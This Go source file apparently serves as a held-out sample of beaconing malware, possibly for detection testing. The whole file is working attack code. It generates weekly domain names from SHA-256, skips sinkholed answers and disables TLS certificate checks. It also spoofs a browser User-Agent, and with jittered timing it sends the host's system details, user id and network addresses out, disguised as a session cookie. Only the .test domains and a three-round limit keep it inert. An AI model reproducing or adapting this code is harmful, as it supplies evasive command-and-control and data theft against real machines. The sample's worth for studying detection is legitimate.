// Held-out stand-in: a DGA over TLS (harmless: .test names, three rounds). Sixteen names a
// week come from SHA-256 of the ISO week and a counter; every name is resolved, and the first
// that resolves outside a sinkhole is contacted over HTTPS (certificate not checked) with a
// cookie holding base64 JSON of uname, host name, os-release, uid and interface addresses.
package main

import (
	"crypto/sha256"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math/rand"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"time"
)

func weekNames(now time.Time) []string {
	year, week := now.ISOWeek()
	out := make([]string, 0, 16)
	for i := 0; i < 16; i++ {
		sum := sha256.Sum256([]byte(fmt.Sprintf("%d-%d-%d", year, week, i)))
		var b strings.Builder
		for _, c := range sum[:9+i%5] {
			b.WriteByte("abcdefghijklmnopqrstuvwxyz0123456789"[int(c)%36])
		}
		out = append(out, b.String()+".test")
	}
	return out
}

func field(a [65]int8) string {
	var b strings.Builder
	for _, c := range a {
		if c == 0 {
			break
		}
		b.WriteByte(byte(c))
	}
	return b.String()
}

func hostFacts() string {
	var u syscall.Utsname
	_ = syscall.Uname(&u)
	host, _ := os.Hostname()
	release, _ := os.ReadFile("/etc/os-release")
	var addrs []string
	if list, err := net.InterfaceAddrs(); err == nil {
		for _, a := range list {
			addrs = append(addrs, a.String())
		}
	}
	blob, _ := json.Marshal(map[string]any{
		"sys": field(u.Sysname), "rel": field(u.Release), "ver": field(u.Version),
		"arch": field(u.Machine), "host": host, "os": string(release),
		"uid": os.Getuid(), "addrs": addrs,
	})
	return base64.RawURLEncoding.EncodeToString(blob)
}

func sinkholed(ip string) bool {
	return strings.HasPrefix(ip, "127.") || strings.HasPrefix(ip, "0.")
}

func main() {
	var seed [8]byte
	if f, err := os.Open("/dev/urandom"); err == nil {
		_, _ = f.Read(seed[:])
		f.Close()
	}
	rand.Seed(int64(binary.LittleEndian.Uint64(seed[:])))
	var live string
	for _, name := range weekNames(time.Now().UTC()) {
		ips, err := net.LookupHost(name)
		if err == nil && len(ips) > 0 && !sinkholed(ips[0]) && live == "" {
			live = name
		}
	}
	if live == "" {
		return
	}
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
	}}
	for round := 0; round < 3; round++ {
		req, _ := http.NewRequest("GET", "https://"+live+"/favicon.ico", nil)
		req.Header.Set("Cookie", "session="+hostFacts())
		req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
		if resp, err := client.Do(req); err == nil {
			resp.Body.Close()
		}
		time.Sleep(time.Duration(30+rand.Intn(40)) * time.Second)
	}
}
